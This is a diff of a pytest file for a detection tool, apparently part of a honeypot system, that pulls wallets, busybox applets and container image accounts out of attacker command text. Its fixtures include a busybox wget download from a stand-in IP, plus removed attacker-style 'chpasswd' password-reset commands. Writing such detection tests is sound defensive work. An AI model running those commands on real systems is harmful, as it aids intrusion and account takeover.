@@ -5,7 +5,7 @@ import time
 
 import pytest
 
-from decnet_workers.clusterer.command_text import applets, image_accounts, new_passwords, wallets
+from decnet_workers.clusterer.texts.command_text import applets, image_accounts, wallets
 
 MONERO = "4" + "9A" * 47
 INTEGRATED = "4" + "9A" * 52 + "b"
@@ -26,30 +26,25 @@ def test_wallets(text: str, named: list[str]) -> None:
     assert wallets(text) == named
 
 
-@pytest.mark.parametrize(
-    ("command", "secrets"),
-    [
-        ("echo 'root:s3crEt' | chpasswd", ["s3crEt"]),
-        ("echo root:s3crEt|sudo chpasswd", ["s3crEt"]),
-        ('echo -e "old\\ns3crEt\\ns3crEt"|passwd|bash', ["s3crEt"]),
-        ("cat list | chpasswd", []),
-        ("passwd root", []),
-    ],
-)
-def test_new_passwords(command: str, secrets: list[str]) -> None:
-    assert new_passwords(command) == secrets
-
-
 def test_applets_and_accounts_of_images() -> None:
     assert applets("/bin/busybox KIVI; /bin/busybox wget http://192.0.2.1/x") == ["KIVI"]
     assert image_accounts('{"Image": "mine/run:1", "Cmd": ["sh"]}') == ["mine"]
     assert image_accounts('{"Image":"ghcr.io/mine/run"}') == ["ghcr.io/mine"]
-    assert image_accounts('{"Image":"alpine"}') == []
+    assert image_accounts('{"Image":"192.0.2.7:5000/run"}') == ["192.0.2.7:5000"]
 
 
-@pytest.mark.parametrize("text", ["echo " * 900, "|passwd" * 600, "busybox " * 500, "4" * 9000, '"Image":"' * 900])
+@pytest.mark.parametrize(
+    "image",
+    ["alpine", "library/alpine", "docker.io/alpine", "docker.io/library/alpine:3.20", "localhost:5000/mine/run"],
+)
+def test_official_images_are_nobodys_however_their_registry_is_named(image: str) -> None:
+    assert image_accounts(f'{{"Image": "{image}"}}') == []
+    assert image_accounts('{"Image": "docker.io/mine/run"}') == image_accounts('{"Image": "mine/run"}')
+
+
+@pytest.mark.parametrize("text", ["busybox " * 500, "4" * 9000, '"Image":"' * 900])
 def test_no_text_takes_long(text: str) -> None:
     start = time.process_time()
-    for read in (wallets, new_passwords, applets, image_accounts):
+    for read in (wallets, applets, image_accounts):
         read(text)
     assert time.process_time() - start < 0.02
